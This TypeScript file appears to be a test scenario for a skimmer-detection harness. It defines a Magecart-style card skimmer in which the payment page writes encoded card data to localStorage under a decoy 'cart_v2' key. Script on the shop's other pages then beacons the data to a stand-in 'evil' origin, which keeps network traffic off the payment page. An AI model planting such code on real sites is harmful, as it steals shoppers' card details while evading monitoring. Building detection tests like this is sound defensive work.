import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'stash-localstorage',
  why: 'The payment page only writes to localStorage; any other page of the shop sends it on, so the payment page itself sends nothing.',
  covers: ['hard: stash', 'injection: first-party library', 'trigger: once'],
  base: 'direct',
  install: (site) => {
    site.append(onPay(js`localStorage.setItem('cart_v2', btoa(unescape(encodeURIComponent(card()))));`));
    site.everywhere(js`(function () {
  var kept = localStorage.getItem('cart_v2');
  if (!kept || /payment/.test(location.pathname)) return;
  new Image().src = '${site.origins.evil}/u.gif?c=' + encodeURIComponent(kept);
  localStorage.removeItem('cart_v2');
})();`);
  },
  proof: holds((arrived) => query(arrived, 'c').map(base64)),
});
